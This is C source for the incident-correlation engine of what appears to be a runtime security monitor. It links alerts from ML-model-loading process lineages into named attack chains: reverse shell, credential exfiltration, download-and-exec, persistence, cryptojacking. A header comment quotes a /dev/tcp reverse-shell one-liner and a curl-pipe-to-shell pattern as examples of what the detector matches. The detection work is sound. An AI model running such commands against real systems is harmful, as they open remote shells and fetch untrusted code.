/*
 * Incident correlation: the table of open lineages, their timelines, the
 * named chains, and the noise control deciding which record goes out when.
 * Rendering is in incident_render.c.
 */
#include <errno.h>
#include <limits.h>
#include <stdlib.h>
#include <string.h>

#include "incident.h"
#include "rules.h"
#include "lib/textsan.h"

#define NS_PER_SEC 1000000000ull
#define K(x) (1u << INCIDENT_STEP_##x)
#define EXEC_KINDS                                                                    \
	(K(SHELL_EXEC) | K(DOWNLOADER_EXEC) | K(INTERPRETER_EXEC) | K(NETTOOL_EXEC) | \
	 K(MINER_EXEC) | K(TEMP_EXEC) | K(FILELESS_EXEC))

/*
 * The high-confidence chains. Most are order-insensitive on
 * purpose: `bash -i >& /dev/tcp/h/p 0>&1` execs the shell before its
 * connect and dup2; a C2 connect often precedes the credential read whose
 * bytes it carries; `curl ... | sh` forks both sides at once. Persistence
 * is ordered because what makes it a chain is a payload that was run
 * (an exec) then made itself permanent.
 */
const struct incident_chain incident_chains[] = {
	{
		.id = "chain-reverse-shell",
		.title = "Reverse shell: outbound connect, socket on stdin/stdout/stderr, shell",
		.tags = { "AML.T0072", "AML.T0011.000", "AML.T0010.003", "T1059.004", "T1095" },
		.all = K(EXTERNAL_CONNECT) | K(SOCKET_STDIO) | K(SHELL_EXEC),
	},
	{
		.id = "chain-credential-exfil",
		.title = "Credentials read, then a connection out",
		.tags = { "AML.T0055", "AML.T0025", "AML.T0011.000", "T1552.001", "T1041" },
		.all = K(CREDENTIAL_READ),
		.any = K(EXTERNAL_CONNECT) | K(METADATA_CONNECT),
	},
	{
		.id = "chain-download-exec",
		.title = "Payload downloaded and run",
		.tags = { "AML.T0011.000", "AML.T0010.003", "T1105", "T1059.004" },
		.all = K(DOWNLOADER_EXEC),
		.any = K(TEMP_EXEC) | K(SHELL_EXEC) | K(FILELESS_EXEC),
	},
	{
		.id = "chain-persistence",
		.title = "Persistence written after the lineage ran a payload",
		.tags = { "AML.T0011.000", "T1053.003", "T1543.002", "T1546.004" },
		.all = K(PERSISTENCE_WRITE),
		.any = EXEC_KINDS,
		.any_first = true,
	},
	{
		.id = "chain-cloud-credential-theft",
		.title = "Cloud metadata service queried and an external host contacted",
		.tags = { "AML.T0055", "AML.T0025", "T1552.005", "T1041" },
		.all = K(METADATA_CONNECT) | K(EXTERNAL_CONNECT),
	},
	{
		.id = "chain-cryptojacking",
		.title = "Cryptominer fetched or dropped and run, or connected out",
		.tags = { "AML.T0034", "AML.T0011.000", "T1496", "T1105" },
		.all = K(MINER_EXEC),
		.any = K(DOWNLOADER_EXEC) | K(TEMP_EXEC) | K(FILELESS_EXEC) | K(EXTERNAL_CONNECT),
	},
};
const size_t n_incident_chains = sizeof(incident_chains) / sizeof(incident_chains[0]);
_Static_assert(sizeof(incident_chains) / sizeof(incident_chains[0]) <= 32,
	       "chain_mask and chain_order hold 32 chains");
_Static_assert(INCIDENT_STEP_KIND_MAX <= 32, "kind masks are 32 bits");

const char *incident_step_name(enum incident_step_kind k)
{
	static const char *const names[INCIDENT_STEP_KIND_MAX] = {
		[INCIDENT_STEP_MODEL_OPEN] = "model_open",
		[INCIDENT_STEP_ROOT] = "control_plane_root",
		[INCIDENT_STEP_EXTERNAL_CONNECT] = "external_connect",
		[INCIDENT_STEP_METADATA_CONNECT] = "metadata_connect",
		[INCIDENT_STEP_SOCKET_STDIO] = "socket_stdio",
		[INCIDENT_STEP_SHELL_EXEC] = "shell_exec",
		[INCIDENT_STEP_DOWNLOADER_EXEC] = "downloader_exec",
		[INCIDENT_STEP_INTERPRETER_EXEC] = "interpreter_exec",
		[INCIDENT_STEP_NETTOOL_EXEC] = "network_tool_exec",
		[INCIDENT_STEP_MINER_EXEC] = "miner_exec",
		[INCIDENT_STEP_TEMP_EXEC] = "temp_exec",
		[INCIDENT_STEP_CREDENTIAL_READ] = "credential_read",
		[INCIDENT_STEP_PERSISTENCE_WRITE] = "persistence_write",
		[INCIDENT_STEP_MODEL_SCAN] = "model_scan",
		[INCIDENT_STEP_FILELESS_EXEC] = "fileless_exec",
		[INCIDENT_STEP_RUNTIME_API] = "runtime_api",
		[INCIDENT_STEP_RAW_SOCKET] = "raw_socket",
		[INCIDENT_STEP_PYTHON_IMPORT] = "python_import",
		[INCIDENT_STEP_PYTHON_CALL] = "python_call",
		[INCIDENT_STEP_OTHER] = "other",
	};

	return (unsigned)k < INCIDENT_STEP_KIND_MAX ? names[k] : "other";
}

const char *incident_record_name(enum incident_record r)
{
	switch (r) {
	case INCIDENT_NEW:
		return "new";
	case INCIDENT_UPDATE:
		return "update";
	case INCIDENT_CLOSED:
		return "closed";
	case INCIDENT_NONE:
		break;
	}
	return "none";
}

const char *incident_close_reason_name(enum incident_close_reason r)
{
	switch (r) {
	case INCIDENT_CLOSE_EXITED:
		return "exited";
	case INCIDENT_CLOSE_EVICTED:
		return "evicted";
	case INCIDENT_CLOSE_SHUTDOWN:
		return "shutdown";
	case INCIDENT_OPEN_NOW:
		break;
	}
	return "open";
}

/* ---- hashing: ids must not depend on this process, keys must be cheap */

#define FNV_BASIS 0xcbf29ce484222325ull

static uint64_t fnv1a(uint64_t h, const void *p, size_t n)
{
	const unsigned char *b = p;

	for (size_t i = 0; i < n; i++) {
		h ^= b[i];
		h *= 0x100000001b3ull;
	}
	return h;
}

/* FNV spreads short inputs poorly; a final avalanche fixes that. */
static uint64_t mix64(uint64_t x)
{
	x ^= x >> 30;
	x *= 0xbf58476d1ce4e5b9ull;
	x ^= x >> 27;
	x *= 0x94d049bb133111ebull;
	x ^= x >> 31;
	return x;
}

void incident_make_id(const char *host, const char *boot_id, uint32_t loader_pid, uint64_t mark_ns,
		      char out[INCIDENT_ID_LEN])
{
	unsigned char key[12];
	uint64_t h = FNV_BASIS;

	/* little-endian by hand: the same id on any architecture */
	for (int i = 0; i < 4; i++)
		key[i] = (unsigned char)(loader_pid >> (8 * i));
	for (int i = 0; i < 8; i++)
		key[4 + i] = (unsigned char)(mark_ns >> (8 * i));
	host = host ? host : "";
	boot_id = boot_id ? boot_id : "";
	h = fnv1a(h, host, strlen(host) + 1);
	h = fnv1a(h, boot_id, strlen(boot_id) + 1);
	h = fnv1a(h, key, sizeof(key));
	snprintf(out, INCIDENT_ID_LEN, "mlw-%016llx", (unsigned long long)mix64(h));
}

static size_t bucket_of(const struct incident_table *t, uint32_t pid, uint64_t mark_ns)
{
	return (size_t)mix64(mark_ns ^ ((uint64_t)pid * 0x9e3779b97f4a7c15ull)) & (t->nbuckets - 1);
}

static uint64_t step_hash(const char *rule, const char *summary)
{
	uint64_t h = fnv1a(FNV_BASIS, rule, strlen(rule) + 1);

	return fnv1a(h, summary, strlen(summary));
}

/* ---- table */

static void read_boot_id(char *out, size_t len)
{
	FILE *f = fopen("/proc/sys/kernel/random/boot_id", "r");

	out[0] = 0;
	if (!f)
		return;
	if (fgets(out, (int)len, f))
		out[strcspn(out, "\n")] = 0;
	fclose(f);
}

int incident_table_init(struct incident_table *t, const struct incident_config *cfg)
{
	size_t n = 16;

	memset(t, 0, sizeof(*t));
	if (cfg)
		t->cfg = *cfg;
	if (!t->cfg.max_open)
		t->cfg.max_open = INCIDENT_MAX_OPEN;
	if (t->cfg.max_open > INCIDENT_MAX_OPEN_MAX)
		t->cfg.max_open = INCIDENT_MAX_OPEN_MAX;
	if (!t->cfg.max_steps || t->cfg.max_steps > INCIDENT_MAX_STEPS)
		t->cfg.max_steps = INCIDENT_MAX_STEPS;
	if (t->cfg.max_steps < 2)
		t->cfg.max_steps = 2; /* the origin and at least one alert */
	if (!t->cfg.updates_per_sec)
		t->cfg.updates_per_sec = INCIDENT_DEF_UPDATES_PER_SEC;
	if (!t->cfg.global_per_sec)
		t->cfg.global_per_sec = INCIDENT_DEF_GLOBAL_PER_SEC;
	if (!t->cfg.global_burst)
		t->cfg.global_burst = INCIDENT_DEF_GLOBAL_BURST;
	if (t->cfg.boot_id)
		snprintf(t->boot_id, sizeof(t->boot_id), "%s", t->cfg.boot_id);
	else
		read_boot_id(t->boot_id, sizeof(t->boot_id)); /* once: it cannot change */
	/* the caller's strings need not outlive init */
	t->cfg.boot_id = NULL;
	snprintf(t->host, sizeof(t->host), "%s", t->cfg.host ? t->cfg.host : "");
	t->cfg.host = NULL;
	while (n < 2 * t->cfg.max_open)
		n <<= 1;
	t->buckets = calloc(n, sizeof(*t->buckets));
	t->ctx = calloc(INCIDENT_CONTEXT_LINEAGES, sizeof(*t->ctx));
	if (!t->buckets || !t->ctx)
		return -ENOMEM;
	t->nbuckets = n;
	t->tokens = t->cfg.global_burst;
	memset(t->ctx_head, 0xff, sizeof(t->ctx_head));
	t->bytes = n * sizeof(*t->buckets) + INCIDENT_CONTEXT_LINEAGES * sizeof(*t->ctx);
	t->st.peak_bytes = t->bytes;
	return 0;
}

size_t incident_table_bytes(const struct incident_table *t)
{
	return t->bytes;
}

size_t incident_table_max_bytes(const struct incident_table *t)
{
	return t->nbuckets * sizeof(*t->buckets) + INCIDENT_CONTEXT_LINEAGES * sizeof(*t->ctx) +
	       t->cfg.max_open *
		       (sizeof(struct incident) + t->cfg.max_steps * sizeof(struct incident_step) +
			INCIDENT_PIDS_MAX * sizeof(uint32_t));
}

/* Every allocation the table makes goes through here (n < 0: freed). */
static void account(struct incident_table *t, long long n)
{
	t->bytes += (size_t)n;
	if (t->bytes > t->st.peak_bytes)
		t->st.peak_bytes = t->bytes;
}

struct incident *incident_find(struct incident_table *t, uint32_t loader_pid, uint64_t mark_ns)
{
	struct incident *inc = t->buckets[bucket_of(t, loader_pid, mark_ns)];

	while (inc && (inc->loader_pid != loader_pid || inc->mark_ns != mark_ns))
		inc = inc->hnext;
	return inc;
}

static void list_unlink(struct incident_table *t, struct incident *inc)
{
	if (inc->prev)
		inc->prev->next = inc->next;
	else
		t->head = inc->next;
	if (inc->next)
		inc->next->prev = inc->prev;
	else
		t->tail = inc->prev;
	inc->prev = inc->next = NULL;
}

static void list_append(struct incident_table *t, struct incident *inc)
{
	inc->prev = t->tail;
	inc->next = NULL;
	if (t->tail)
		t->tail->next = inc;
	else
		t->head = inc;
	t->tail = inc;
}

static bool waiting(const struct incident *inc)
{
	return inc->pending || inc->closing;
}

static void set_state(struct incident_table *t, struct incident *inc, bool pending, bool closing)
{
	bool before = waiting(inc);

	inc->pending = pending;
	inc->closing = closing;
	if (before && !waiting(inc))
		t->n_waiting--;
	else if (!before && waiting(inc))
		t->n_waiting++;
}

static void destroy(struct incident_table *t, struct incident *inc)
{
	struct incident **pp = &t->buckets[bucket_of(t, inc->loader_pid, inc->mark_ns)];

	while (*pp && *pp != inc)
		pp = &(*pp)->hnext;
	if (*pp)
		*pp = inc->hnext;
	list_unlink(t, inc);
	set_state(t, inc, false, false);
	t->count--;
	account(t, -(long long)(sizeof(*inc) + inc->cap_steps * sizeof(*inc->steps) +
				inc->cap_pids * sizeof(*inc->pids)));
	free(inc->steps);
	free(inc->pids);
	free(inc);
}

void incident_table_free(struct incident_table *t)
{
	while (t->head)
		destroy(t, t->head);
	free(t->buckets);
	t->buckets = NULL;
	t->nbuckets = 0;
	free(t->ctx);
	t->ctx = NULL;
}

/* ---- noise control */

static void advance(struct incident_table *t, uint64_t now_ns)
{
	if (now_ns > t->now_ns)
		t->now_ns = now_ns;
}

static bool take_token(struct incident_table *t)
{
	double rate = t->cfg.global_per_sec;

	if (t->cfg.global_per_sec == UINT_MAX)
		return true;
	if (t->now_ns > t->bucket_ns) {
		t->tokens += (double)(t->now_ns - t->bucket_ns) * rate / (double)NS_PER_SEC;
		if (t->tokens > t->cfg.global_burst)
			t->tokens = t->cfg.global_burst;
		t->bucket_ns = t->now_ns;
	}
	if (t->tokens < 1.0)
		return false;
	t->tokens -= 1.0;
	return true;
}

/* Fixed one-second windows: simple, and a burst at a window edge can give
 * at most twice the rate, which is fine for a noise limit. */
static bool window_allows(struct incident_table *t, struct incident *inc)
{
	if (t->cfg.updates_per_sec == UINT_MAX)
		return true;
	if (t->now_ns < inc->win_start || t->now_ns - inc->win_start >= NS_PER_SEC) {
		inc->win_start = t->now_ns;
		inc->win_count = 0;
	}
	return inc->win_count < t->cfg.updates_per_sec;
}

enum why_not { SENT, NOTHING, PER_INCIDENT, GLOBAL };

static void emit(struct incident_table *t, struct incident *inc, enum incident_record rec)
{
	inc->seq++;
	if (rec == INCIDENT_NEW)
		t->st.records_new++;
	else if (rec == INCIDENT_UPDATE)
		t->st.records_update++;
	else
		t->st.closed++;
	if (t->cfg.emit)
		t->cfg.emit(t->cfg.emit_ctx, inc, rec);
	inc->folded = 0;
	set_state(t, inc, false, inc->closing);
}

/* The one place that decides whether a record goes out now. A closed
 * record is never held by the per-incident limit (it is the last one);
 * force (eviction, shutdown) passes the global limit too, and is counted. */
static enum incident_record try_emit(struct incident_table *t, struct incident *inc, bool force,
				     enum why_not *why)
{
	enum incident_record rec;

	*why = NOTHING;
	if (!waiting(inc))
		return INCIDENT_NONE;
	rec = inc->closing ? INCIDENT_CLOSED : inc->seq ? INCIDENT_UPDATE : INCIDENT_NEW;
	/* the first record is never held back per incident: it is the news */
	if (rec == INCIDENT_UPDATE && !window_allows(t, inc)) {
		*why = PER_INCIDENT;
		return INCIDENT_NONE;
	}
	if (!take_token(t)) {
		if (!force) {
			*why = GLOBAL;
			return INCIDENT_NONE;
		}
		t->st.forced++;
	}
	if (rec == INCIDENT_UPDATE)
		inc->win_count++;
	*why = SENT;
	emit(t, inc, rec);
	return rec;
}

static enum incident_record close_incident(struct incident_table *t, struct incident *inc,
					   enum incident_close_reason reason, bool force)
{
	enum why_not why;

	if (!inc->closing) {
		inc->close_reason = reason;
		inc->close_ns = t->now_ns;
		set_state(t, inc, inc->pending, true);
	}
	if (try_emit(t, inc, force, &why) == INCIDENT_CLOSED) {
		destroy(t, inc);
		return INCIDENT_CLOSED;
	}
	return INCIDENT_NONE;
}

/* ---- the story */

static void copy_clean(char *dst, size_t len, const char *src)
{
	utf8_sanitize(src ? src : "", src ? strlen(src) : 0, dst, len);
}

/* Interns a tag; returns its bit, or 0 when the incident holds too many. */
static uint32_t tag_bit(struct incident *inc, const char *tag)
{
	char clean[INCIDENT_TAG_LEN];

	copy_clean(clean, sizeof(clean), tag);
	for (size_t i = 0; i < inc->n_tags; i++)
		if (!strcmp(inc->tags[i], clean))
			return 1u << i;
	if (inc->n_tags >= INCIDENT_TAGS_MAX) {
		inc->sup.tags_cut++;
		return 0;
	}
	memcpy(inc->tags[inc->n_tags], clean, sizeof(clean));
	return 1u << inc->n_tags++;
}

static void add_pid(struct incident_table *t, struct incident *inc, uint32_t pid)
{
	for (size_t i = 0; i < inc->n_pids; i++)
		if (inc->pids[i] == pid)
			return;
	if (inc->n_pids == inc->cap_pids) {
		size_t cap = inc->cap_pids ? inc->cap_pids * 2 : 8;
		uint32_t *p;

		if (cap > INCIDENT_PIDS_MAX)
			cap = INCIDENT_PIDS_MAX;
		if (cap == inc->cap_pids || !(p = realloc(inc->pids, cap * sizeof(*p)))) {
			inc->sup.pids_cut++;
			return;
		}
		account(t, (long long)((cap - inc->cap_pids) * sizeof(*p)));
		inc->pids = p;
		inc->cap_pids = cap;
	}
	inc->pids[inc->n_pids++] = pid;
}

static bool chain_holds(const struct incident *inc, const struct incident_chain *c)
{
	uint64_t first_any = UINT64_MAX;

	if ((inc->kinds & c->all) != c->all)
		return false;
	/* context (egress after a load, a cloud SDK's metadata read) makes a
	 * chain only together with something that alerted */
	if (!(inc->alert_kinds & (c->all | c->any)))
		return false;
	if (!c->any)
		return true;
	if (!(inc->kinds & c->any))
		return false;
	if (!c->any_first)
		return true;
	/* kind_first/kind_last cover every occurrence (collapsed and cut
	 * ones too), so "some any-step at or before some all-step" is exact */
	for (int k = 0; k < INCIDENT_STEP_KIND_MAX; k++)
		if ((c->any & inc->kinds & (1u << k)) && inc->kind_first[k] < first_any)
			first_any = inc->kind_first[k];
	for (int k = 0; k < INCIDENT_STEP_KIND_MAX; k++)
		if ((c->all & (1u << k)) && first_any > inc->kind_last[k])
			return false;
	return true;
}

/* Returns true when a chain completed. */
static bool find_chains(struct incident *inc)
{
	bool found = false;

	for (size_t i = 0; i < n_incident_chains; i++) {
		if ((inc->chain_mask & (1u << i)) || !chain_holds(inc, &incident_chains[i]))
			continue;
		inc->chain_mask |= 1u << i;
		inc->chain_order[inc->n_chains++] = (uint8_t)i;
		for (int j = 0; j < 6 && incident_chains[i].tags[j]; j++)
			tag_bit(inc, incident_chains[i].tags[j]);
		if (!found && inc->title_severity <= SEV_CRITICAL) {
			/* the first chain names the incident; later ones are listed */
			copy_clean(inc->title, sizeof(inc->title), incident_chains[i].title);
			inc->title_severity = SEV_CRITICAL + 1;
		}
		inc->severity = SEV_CRITICAL;
		found = true;
	}
	return found;
}

static void note_kind(struct incident *inc, enum incident_step_kind k, uint64_t ts)
{
	uint32_t bit = 1u << k;

	if (!(inc->kinds & bit) || ts < inc->kind_first[k])
		inc->kind_first[k] = ts;
	if (!(inc->kinds & bit) || ts > inc->kind_last[k])
		inc->kind_last[k] = ts;
	inc->kinds |= bit;
}

static struct incident_step *find_step(struct incident *inc, uint64_t h, const char *rule,
				       const char *summary)
{
	for (size_t i = 0; i < inc->n_steps; i++) {
		struct incident_step *s = &inc->steps[i];

		if (s->hash == h && !strcmp(s->rule, rule) && !strcmp(s->summary, summary))
			return s;
	}
	return NULL;
}

/* Room for one more step, in timeline order; NULL when cut. */
static struct incident_step *insert_step(struct incident_table *t, struct incident *inc,
					 uint64_t ts)
{
	size_t pos;

	if (inc->n_steps >= t->cfg.max_steps)
		return NULL;
	if (inc->n_steps == inc->cap_steps) {
		size_t cap = inc->cap_steps ? inc->cap_steps * 2 : 4;
		struct incident_step *s;

		if (cap > t->cfg.max_steps)
			cap = t->cfg.max_steps;
		s = realloc(inc->steps, cap * sizeof(*s));
		if (!s) {
			t->st.alloc_failed++;
			return NULL;
		}
		account(t, (long long)((cap - inc->cap_steps) * sizeof(*s)));
		inc->steps = s;
		inc->cap_steps = cap;
	}
	/* records arrive nearly in order: scan back from the end */
	pos = inc->n_steps;
	while (pos > 0 && inc->steps[pos - 1].ts_ns > ts)
		pos--;
	memmove(&inc->steps[pos + 1], &inc->steps[pos],
		(inc->n_steps - pos) * sizeof(inc->steps[0]));
	inc->n_steps++;
	memset(&inc->steps[pos], 0, sizeof(inc->steps[pos]));
	return &inc->steps[pos];
}

/* Applies one step; returns true when the incident changed enough to be
 * worth a record (a duplicate, or a cut step that adds nothing, is not).
 * origin and context steps do not name the incident. */
static bool apply(struct incident_table *t, struct incident *inc, const struct incident_input *in,
		  bool origin)
{
	char rule[INCIDENT_RULE_MAX], summary[INCIDENT_SUMMARY_MAX];
	enum incident_step_kind kind =
		(unsigned)in->step < INCIDENT_STEP_KIND_MAX ? in->step : INCIDENT_STEP_OTHER;
	uint32_t kinds_before = inc->kinds;
	int sev_before = inc->severity;
	struct incident_step *s;
	uint32_t tags = 0;
	uint64_t h;

	copy_clean(rule, sizeof(rule), in->rule_id);
	copy_clean(summary, sizeof(summary), in->summary);
	h = step_hash(rule, summary);
	add_pid(t, inc, in->pid);
	if (in->ts_ns > inc->last_ns)
		inc->last_ns = in->ts_ns;
	if (!inc->first_ns || in->ts_ns < inc->first_ns)
		inc->first_ns = in->ts_ns;
	note_kind(inc, kind, in->ts_ns);
	if (!in->context && !origin)
		inc->alert_kinds |= 1u << kind;

	s = find_step(inc, h, rule, summary);
	if (s) {
		s->count++;
		if (in->ts_ns > s->last_ns)
			s->last_ns = in->ts_ns;
		inc->sup.duplicates++;
		t->st.duplicates++;
		/* an earlier occurrence can still complete an ordered chain */
		return find_chains(inc);
	}

	for (size_t i = 0; i < in->n_tags && in->tags && in->tags[i]; i++)
		tags |= tag_bit(inc, in->tags[i]);
	if (in->severity > inc->severity)
		inc->severity = in->severity;
	if (!origin && !in->context && in->severity > inc->title_severity) {
		copy_clean(inc->title, sizeof(inc->title),
			   in->rule_title ? in->rule_title : in->rule_id);
		inc->title_severity = in->severity;
	}
	s = insert_step(t, inc, in->ts_ns);
	if (s) {
		s->ts_ns = s->last_ns = in->ts_ns;
		s->count = 1;
		s->hash = h;
		s->pid = in->pid;
		s->tag_mask = tags;
		s->kind = kind;
		s->severity = in->severity;
		memcpy(s->rule, rule, sizeof(rule));
		memcpy(s->summary, summary, sizeof(summary));
	} else {
		inc->sup.steps_cut++;
		t->st.steps_cut++;
	}
	return find_chains(inc) || s || inc->kinds != kinds_before || inc->severity != sev_before;
}

/* The first step of every incident: what started the lineage. */
static void add_origin(struct incident_table *t, struct incident *inc,
		       const struct incident_input *in)
{
	static const char *const model_tags[] = { "AML.T0010.003", "AML.T0011.000" };
	char summary[INCIDENT_SUMMARY_MAX];
	struct incident_input o = {
		.loader_pid = in->loader_pid,
		.mark_ns = in->mark_ns,
		/* the mark's time is the model open's; fall back if unknown */
		.ts_ns = in->mark_ns && in->mark_ns <= in->ts_ns ? in->mark_ns : in->ts_ns,
		.pid = in->loader_pid,
		.severity = SEV_LOW,
	};

	if (in->python_scope && !in->root_scope) {
		/* the find_class step that marked it is the origin; another
		 * alert first (the import was allowed by user space, or its
		 * record lost) says where the lineage came from */
		if (in->step == INCIDENT_STEP_PYTHON_IMPORT)
			return;
		o.rule_id = "python-unpickle";
		o.step = INCIDENT_STEP_PYTHON_IMPORT;
		o.tags = model_tags;
		o.n_tags = 2;
		snprintf(summary, sizeof(summary), "unpickled a global outside the allowlist (%s)",
			 in->model_path && *in->model_path ? in->model_path : "memory");
	} else if (in->root_scope) {
		o.rule_id = "control-plane-root";
		o.step = INCIDENT_STEP_ROOT;
		snprintf(summary, sizeof(summary), "watched root %s",
			 in->loader_exe && *in->loader_exe ? in->loader_exe : "(exe unknown)");
	} else {
		o.rule_id = "model-open";
		o.step = INCIDENT_STEP_MODEL_OPEN;
		o.tags = model_tags;
		o.n_tags = 2;
		snprintf(summary, sizeof(summary), "open %s",
			 in->model_path && *in->model_path ? in->model_path :
							     "(model path unknown)");
	}
	o.summary = summary;
	apply(t, inc, &o, true);
}

/* ---- context held for lineages with no incident yet */

_Static_assert(INCIDENT_CONTEXT_LINEAGES <= INT16_MAX, "context slots are int16_t");

/* Hashed, as lookups come with every context step. */
static int16_t *context_head(struct incident_table *t, uint32_t loader, uint64_t mark_ns)
{
	uint64_t h = mix64(mark_ns ^ ((uint64_t)loader * 0x9e3779b97f4a7c15ull));

	return &t->ctx_head[h & (INCIDENT_CONTEXT_BUCKETS - 1)];
}

static struct incident_context *context_find(struct incident_table *t, uint32_t loader,
					     uint64_t mark_ns)
{
	for (int16_t i = *context_head(t, loader, mark_ns); i >= 0; i = t->ctx[i].hnext)
		if (t->ctx[i].loader_pid == loader && t->ctx[i].mark_ns == mark_ns)
			return &t->ctx[i];
	return NULL;
}

/* Empties a slot, out of its chain. */
static void context_clear(struct incident_table *t, struct incident_context *x)
{
	if (x->loader_pid) {
		if (x->hprev >= 0)
			t->ctx[x->hprev].hnext = x->hnext;
		else
			*context_head(t, x->loader_pid, x->mark_ns) = x->hnext;
		if (x->hnext >= 0)
			t->ctx[x->hnext].hprev = x->hprev;
	}
	memset(x, 0, sizeof(*x));
	x->hprev = x->hnext = -1;
}

static void context_keep(struct incident_table *t, const struct incident_input *in)
{
	struct incident_context *x = context_find(t, in->loader_pid, in->mark_ns);
	struct incident_context_step *s;

	if (!x) {
		x = &t->ctx[t->ctx_next];
		t->ctx_next = (t->ctx_next + 1) % INCIDENT_CONTEXT_LINEAGES;
		int16_t *head = context_head(t, in->loader_pid, in->mark_ns);

		if (x->loader_pid)
			t->st.context_dropped += x->n;
		context_clear(t, x);
		x->loader_pid = in->loader_pid;
		x->mark_ns = in->mark_ns;
		x->hnext = *head;
		if (*head >= 0)
			t->ctx[*head].hprev = (int16_t)(x - t->ctx);
		*head = (int16_t)(x - t->ctx);
	}
	for (size_t i = 0; i < x->n; i++)
		if (!strcmp(x->steps[i].rule, in->rule_id ? in->rule_id : "") &&
		    !strcmp(x->steps[i].summary, in->summary ? in->summary : ""))
			return; /* the same thing again: one step is enough context */
	if (x->n == INCIDENT_CONTEXT_STEPS) {
		t->st.context_dropped++;
		return;
	}
	s = &x->steps[x->n++];
	s->ts_ns = in->ts_ns;
	s->pid = in->pid;
	s->severity = in->severity;
	s->step = in->step;
	copy_clean(s->rule, sizeof(s->rule), in->rule_id);
	copy_clean(s->summary, sizeof(s->summary), in->summary);
	for (size_t i = 0;
	     i < in->n_tags && in->tags && in->tags[i] && s->n_tags < INCIDENT_CONTEXT_TAGS; i++)
		copy_clean(s->tags[s->n_tags++], INCIDENT_TAG_LEN, in->tags[i]);
	t->st.context_kept++;
}

/* An incident opened: the context its lineage gathered joins its timeline. */
static void context_replay(struct incident_table *t, struct incident *inc)
{
	struct incident_context *x = context_find(t, inc->loader_pid, inc->mark_ns);

	if (!x)
		return;
	for (size_t i = 0; i < x->n; i++) {
		const struct incident_context_step *s = &x->steps[i];
		const char *tags[INCIDENT_CONTEXT_TAGS];
		struct incident_input in = {
			.loader_pid = inc->loader_pid,
			.mark_ns = inc->mark_ns,
			.ts_ns = s->ts_ns,
			.pid = s->pid,
			.rule_id = s->rule,
			.severity = s->severity,
			.step = s->step,
			.summary = s->summary,
			.context = true,
			.tags = tags,
			.n_tags = s->n_tags,
		};

		for (size_t k = 0; k < s->n_tags; k++)
			tags[k] = s->tags[k];
		apply(t, inc, &in, false);
	}
	context_clear(t, x);
}

static void context_drop(struct incident_table *t, uint32_t loader, uint64_t mark_ns)
{
	struct incident_context *x = context_find(t, loader, mark_ns);

	if (x)
		context_clear(t, x);
}

static struct incident *create(struct incident_table *t, const struct incident_input *in)
{
	size_t b = bucket_of(t, in->loader_pid, in->mark_ns);
	struct incident *inc;

	if (t->count >= t->cfg.max_open && t->head) {
		t->st.evicted++;
		close_incident(t, t->head, INCIDENT_CLOSE_EVICTED, true);
	}
	inc = calloc(1, sizeof(*inc));
	if (!inc)
		return NULL;
	account(t, sizeof(*inc));
	incident_make_id(t->host, t->boot_id, in->loader_pid, in->mark_ns, inc->id);
	inc->loader_pid = in->loader_pid;
	inc->mark_ns = in->mark_ns;
	inc->root_scope = in->root_scope;
	inc->severity = -1;
	inc->title_severity = -1;
	copy_clean(inc->loader_exe, sizeof(inc->loader_exe), in->loader_exe);
	copy_clean(inc->model_path, sizeof(inc->model_path), in->model_path);
	copy_clean(inc->model_scan, sizeof(inc->model_scan), in->model_scan);
	inc->cgroup_id = in->cgroup_id;
	inc->hnext = t->buckets[b];
	t->buckets[b] = inc;
	list_append(t, inc);
	t->count++;
	if (t->count > t->st.peak_open)
		t->st.peak_open = t->count;
	t->st.opened++;
	add_origin(t, inc, in);
	context_replay(t, inc);
	return inc;
}

enum incident_record incident_add(struct incident_table *t, const struct incident_input *in,
				  struct incident **out)
{
	struct incident *inc;
	enum incident_record rec;
	enum why_not why;
	bool changed;

	if (out)
		*out = NULL;
	advance(t, in->ts_ns);
	inc = incident_find(t, in->loader_pid, in->mark_ns);
	if (!inc && in->context) {
		context_keep(t, in);
		return INCIDENT_NONE;
	}
	if (!in->context)
		t->st.alerts++;
	if (!inc && !(inc = create(t, in))) {
		t->st.alloc_failed++;
		return INCIDENT_NONE;
	}
	if (out)
		*out = inc;
	/* the loader's details may only be known by a later alert */
	if (!inc->loader_exe[0] && in->loader_exe)
		copy_clean(inc->loader_exe, sizeof(inc->loader_exe), in->loader_exe);
	if (!inc->model_path[0] && in->model_path)
		copy_clean(inc->model_path, sizeof(inc->model_path), in->model_path);
	if (in->model_scan)
		copy_clean(inc->model_scan, sizeof(inc->model_scan), in->model_scan);
	if (!inc->cgroup_id)
		inc->cgroup_id = in->cgroup_id;
	list_unlink(t, inc);
	list_append(t, inc);
	if (!in->context) {
		inc->alerts++;
		inc->folded++;
	}
	changed = apply(t, inc, in, false);
	if (changed)
		set_state(t, inc, true, inc->closing);
	if (inc->closing)
		return INCIDENT_NONE; /* folded into its closed record, due at the next tick */
	rec = try_emit(t, inc, false, &why);
	if (changed && why == PER_INCIDENT) {
		inc->sup.rate_limited++;
		t->st.rate_limited++;
	} else if (changed && why == GLOBAL) {
		inc->sup.global_limited++;
		t->st.global_limited++;
	}
	return rec;
}

void incident_set_scan(struct incident_table *t, uint32_t loader_pid, uint64_t mark_ns,
		       const char *verdict)
{
	struct incident *inc = incident_find(t, loader_pid, mark_ns);

	if (inc && verdict)
		copy_clean(inc->model_scan, sizeof(inc->model_scan), verdict);
}

enum incident_record incident_lineage_exited(struct incident_table *t, uint32_t loader_pid,
					     uint64_t mark_ns, uint64_t now_ns)
{
	struct incident *inc = incident_find(t, loader_pid, mark_ns);
	enum incident_record rec;

	context_drop(t, loader_pid, mark_ns);
	if (!inc || inc->closing)
		return INCIDENT_NONE;
	advance(t, now_ns);
	rec = close_incident(t, inc, INCIDENT_CLOSE_EXITED, false);
	if (rec == INCIDENT_NONE)
		t->st.closes_deferred++;
	return rec;
}

size_t incident_tick(struct incident_table *t, uint64_t now_ns)
{
	struct incident *inc, *next;
	size_t sent = 0;

	advance(t, now_ns);
	/* least recently active first: the longest-waiting go out first */
	for (inc = t->head; inc && t->n_waiting; inc = next) {
		enum why_not why;
		enum incident_record rec;

		next = inc->next;
		if (!waiting(inc))
			continue;
		rec = try_emit(t, inc, false, &why);
		if (rec == INCIDENT_CLOSED)
			destroy(t, inc);
		if (rec != INCIDENT_NONE)
			sent++;
		else if (why == GLOBAL)
			break; /* no tokens left for anyone */
	}
	return sent;
}

size_t incident_close_all(struct incident_table *t, uint64_t now_ns)
{
	size_t n = 0;

	advance(t, now_ns);
	while (t->head) {
		close_incident(t, t->head, INCIDENT_CLOSE_SHUTDOWN, true);
		n++;
	}
	return n;
}

